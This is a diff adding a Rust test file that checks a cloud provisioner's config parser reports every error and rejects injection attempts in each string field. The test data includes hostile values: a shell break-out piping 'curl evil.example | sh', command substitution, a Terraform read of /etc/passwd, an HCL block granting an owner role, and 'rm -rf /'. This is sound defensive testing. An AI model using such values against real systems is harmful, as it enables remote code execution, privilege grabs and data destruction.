@@ -1,0 +1,133 @@
+//! Invalid configs: every problem reported at once, with key, value and rule; injection attempts in
+//! every string field are refused by validation.
+
+use provisioner::config;
+
+fn error(text: &str) -> String {
+    config::parse("test.yaml", text).unwrap_err().to_string()
+}
+
+#[test]
+fn every_problem_is_reported_at_once() {
+    let text = r#"
+project_id: Acme
+region: moon-central1
+bucket:
+  name: Google-Bucket
+  storage_class: HOT
+  retention_days: 0
+feed_prefix: onepassword-audit
+checkpoint_prefix: onepassword-audit/state
+streams: [auditevents, logins, auditevents]
+events_api: http://events.example.com
+service_accounts:
+  collector: sa
+  invoker: sa
+topic: goog-topic
+schedule:
+  cron: "every hour"
+  time_zone: "mars"
+collector:
+  page_size: 5000
+  lookback_hours: 0
+secret: "token secret"
+colour: blue
+"#;
+    insta::assert_snapshot!(error(text));
+}
+
+#[test]
+fn malformed_yaml_names_the_location() {
+    let message = error("project_id: [unclosed\n");
+    assert!(
+        message.contains("test.yaml is not a valid config"),
+        "{message}"
+    );
+    assert!(message.contains("line"), "{message}");
+    let message =
+        error("project_id: acme-secops-prod\nregion: us-central1\ncollector:\n  page_size: many\n");
+    assert!(
+        message.contains("page_size") || message.contains("invalid type"),
+        "{message}"
+    );
+}
+
+/// Values an attacker (or a typo) could use to break out of an HCL string or a shell word.
+const INJECTIONS: &[&str] = &[
+    "x\" }\nresource \"google_project_iam_member\" \"owner\" {",
+    "${file(\"/etc/passwd\")}",
+    "%{ if true }x%{ endif }",
+    "a'; curl evil.example | sh; echo '",
+    "$(id)",
+    "`id`",
+    "a\nb",
+    "a b",
+];
+
+const STRING_FIELDS: &[&str] = &[
+    "project_id",
+    "region",
+    "bucket.name",
+    "bucket.location",
+    "bucket.storage_class",
+    "feed_prefix",
+    "signinattempts_prefix",
+    "itemusages_prefix",
+    "checkpoint_prefix",
+    "service_accounts.collector",
+    "service_accounts.invoker",
+    "topic",
+    "schedule.job_name",
+    "schedule.cron",
+    "schedule.time_zone",
+    "events_api",
+    "collector.service_name",
+    "collector.repository",
+    "collector.image",
+    "secret",
+    "terraform.state_bucket",
+    "terraform.state_prefix",
+];
+
+fn with_field(key: &str, value: &str) -> String {
+    let mut root: yaml_serde::Value =
+        yaml_serde::from_str("project_id: acme-secops-prod\nregion: us-central1\n").unwrap();
+    let mut parts = key.split('.').peekable();
+    let mut node = &mut root;
+    while let Some(part) = parts.next() {
+        let map = node.as_mapping_mut().unwrap();
+        if parts.peek().is_none() {
+            map.insert(part.into(), value.into());
+            break;
+        }
+        if !map.contains_key(part) {
+            map.insert(part.into(), yaml_serde::Value::Mapping(Default::default()));
+        }
+        node = map.get_mut(part).unwrap();
+    }
+    yaml_serde::to_string(&root).unwrap()
+}
+
+#[test]
+fn injection_attempts_in_every_string_field_are_refused() {
+    for field in STRING_FIELDS {
+        for attempt in INJECTIONS {
+            let text = with_field(field, attempt);
+            let result = config::parse("test.yaml", &text);
+            let Err(config::ConfigError::Invalid { problems, .. }) = result else {
+                panic!("{field} = {attempt:?} was accepted: {result:?}");
+            };
+            assert!(
+                problems.iter().any(|p| p.key == *field),
+                "{field} = {attempt:?}: {problems:?}"
+            );
+        }
+    }
+    insta::assert_snapshot!(error(&with_field("bucket.name", INJECTIONS[0])));
+}
+
+#[test]
+fn streams_entries_are_checked_too() {
+    let text = "project_id: acme-secops-prod\nregion: us-central1\nstreams: [\"auditevents'; rm -rf /\"]\n";
+    assert!(error(text).contains("is not a stream"));
+}
